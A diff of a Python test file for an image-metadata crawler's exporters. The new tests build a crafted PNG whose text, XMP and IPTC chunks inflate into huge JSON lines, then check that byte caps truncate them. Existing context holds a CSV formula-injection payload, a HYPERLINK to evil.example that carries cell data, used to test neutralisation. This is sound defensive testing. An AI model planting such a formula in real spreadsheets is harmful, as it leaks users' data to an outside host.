@@ -5,13 +5,20 @@ from __future__ import annotations
 
 import csv
 import io
+import struct
+import zlib
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 from PIL import Image
 
-from imgprint.exporters import CsvExporter, neutralise_formula
-from imgprint.items import ImageRecord
+from imgprint.exporters import CsvExporter, SeparatorSafeEncoder, neutralise_formula
+from imgprint.items import FIELDS, ImageRecord
+from imgprint.pipelines import fingerprint_fields
+from imgprint.record_caps import MAX_RECORD_BYTES, TRUNCATED, cap_bytes, json_size
 from tests.conftest import run_crawl, static_server
+from tests.helpers import whole
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
@@ -65,3 +72,81 @@ def test_csv_feed_of_a_crawl_carries_no_live_formula(tmp_path):
     assert rows[0]["comment"] == "'" + FORMULA
     cells = [v for row in rows for v in row.values() if v]
     assert not [v for v in cells if v[0] in "=+-@\t\r"], cells
+
+
+# -- finding 2: a feed line's size in bytes, not characters ---------------------
+
+def png_chunk(kind: bytes, data: bytes) -> bytes:
+    return (struct.pack(">I", len(data)) + kind + data
+            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))
+
+
+def png_of_escapes(keys: int = 24, chars: int = 8192) -> bytes:
+    """A PNG of about 4 KB whose text chunks, XMP (iTXt) and IPTC raw profile
+    (zTXt) hold ``keys`` values each of ``chars`` characters that JSON writes as
+    6-byte escapes: ``\\u0001`` and ``\\u2028``."""
+    ctrl, sep = "\x01" * chars, "\u2028" * chars
+    out = b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
+    for i in range(keys):
+        out += png_chunk(b"zTXt", b"k%02d\0\0" % i + zlib.compress(ctrl.encode("latin-1"), 9))
+    props = "".join(f' my:p{i:02d}="{sep}"' for i in range(keys))
+    packet = ('<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF'
+              ' xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description'
+              f' xmlns:my="http://example.com/my/"{props}/></rdf:RDF></x:xmpmeta>')
+    out += png_chunk(b"iTXt", b"XML:com.adobe.xmp\0\x01\x00\0\0"
+                     + zlib.compress(packet.encode(), 9))
+    iim = b"".join(b"\x1c\x02" + bytes([n]) + struct.pack(">H", chars) + ctrl.encode("latin-1")
+                   for n in range(5, 5 + 3 * keys, 3))
+    hexed = iim.hex()
+    raw = (f"\niptc\n{len(iim):8d}\n" + "\n".join(hexed[i:i + 72]
+                                                  for i in range(0, len(hexed), 72)))
+    out += png_chunk(b"zTXt", b"Raw profile type iptc\0\0" + zlib.compress(raw.encode(), 9))
+    return out + png_chunk(b"IDAT", zlib.compress(b"\0\0")) + png_chunk(b"IEND", b"")
+
+
+def feed_line(record: ImageRecord) -> bytes:
+    """The record's line as imgprint's JSON-lines exporter writes it."""
+    return SeparatorSafeEncoder(ensure_ascii=False).encode(record.to_dict()).encode() + b"\n"
+
+
+def test_a_small_file_of_escapes_makes_no_huge_line():
+    """Finding 2: caps counted characters, the feed writes 6 bytes for each of
+    these: a 3.8 KB PNG made a 505,487-byte line (the report's: 553,180)."""
+    data = png_of_escapes()
+    record = ImageRecord("http://example.com/escapes.png")
+    record.set(**fingerprint_fields(whole(data), small=True))
+    line = feed_line(record)
+    print(f"\n{len(data)}-byte PNG: {len(line)}-byte line")
+    assert len(line) <= MAX_RECORD_BYTES
+    for field in ("png_text", "xmp", "iptc"):
+        value = getattr(record, field)
+        assert json_size(value) <= 32 * 1024 + 64, field
+        assert TRUNCATED in value  # cut, and says so
+        first = next(v for k, v in value.items() if k != TRUNCATED)
+        assert first.endswith(TRUNCATED) and first[0] in "\x01\u2028"
+
+
+def test_every_field_at_its_cap_stays_under_the_bound():
+    """Every field a record has, filled past its cap with the costliest
+    characters (6 bytes each in the feed), nested where a field takes objects."""
+    costly = "\x01\u2028\u0085\"" * 30_000
+    nested = {f"k{i}\x01" * 40: [costly] * 100 for i in range(500)}
+    record = ImageRecord("http://example.com/x.jpg")
+    values = {name: (nested if name in ("exif", "xmp", "iptc", "icc", "png_text", "gps",
+                                        "camera", "density") else costly)
+              for name in FIELDS if name not in ("url", "pages", "timestamp")}
+    record.set(**values)
+    line = feed_line(record)
+    print(f"\nevery field at its cap: {len(line)}-byte line")
+    assert len(line) <= MAX_RECORD_BYTES
+
+
+@given(st.text(max_size=3000), st.integers(0, 2000))
+def test_cap_bytes_keeps_the_longest_prefix_that_fits(text, limit):
+    capped = cap_bytes(text, limit)
+    if capped == text:
+        assert json_size(text) - 2 <= limit
+        return
+    kept = capped.removesuffix(TRUNCATED)
+    assert text.startswith(kept) and json_size(kept) - 2 <= limit
+    assert json_size(text[:len(kept) + 1]) - 2 > limit
